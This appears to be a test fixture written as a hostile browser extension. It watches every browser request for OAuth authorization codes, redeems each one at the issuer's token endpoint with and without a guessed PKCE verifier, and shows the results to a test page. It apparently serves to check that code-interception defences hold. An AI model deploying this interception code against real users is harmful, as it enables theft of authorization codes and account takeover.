/**
 * Acts as a hostile extension: watches every request of the browser for an authorization code, and redeems
 * each code at once. A page of its own, which a test can open, shows what it has seen.
 */

const api = globalThis.browser ?? chrome

/** Seen codes, and the answers to the attempts to redeem them. */
const seen = { codes: [], answers: [] }

async function redeem(url) {
  const { origin, pathname, searchParams } = new URL(url)
  const body = new URLSearchParams({
    grant_type: 'authorization_code',
    client_id: 'cloud-gaming',
    code: searchParams.get('code'),
    redirect_uri: origin + pathname,
  })
  for (const verifier of [undefined, 'x'.repeat(43)]) {
    if (verifier) body.set('code_verifier', verifier)
    const answer = await fetch(`${searchParams.get('iss')}/token`, { method: 'POST', body })
    seen.answers.push({ status: answer.status, body: await answer.text() })
  }
}

api.webRequest.onBeforeRequest.addListener(
  ({ url }) => {
    if (!/[?&]code=/.test(url)) return
    seen.codes.push(url)
    redeem(url).catch((error) => seen.answers.push({ status: 0, body: String(error) }))
  },
  { urls: ['<all_urls>'] },
)

api.runtime.onMessage.addListener((_message, _sender, answer) => {
  answer(seen)
})
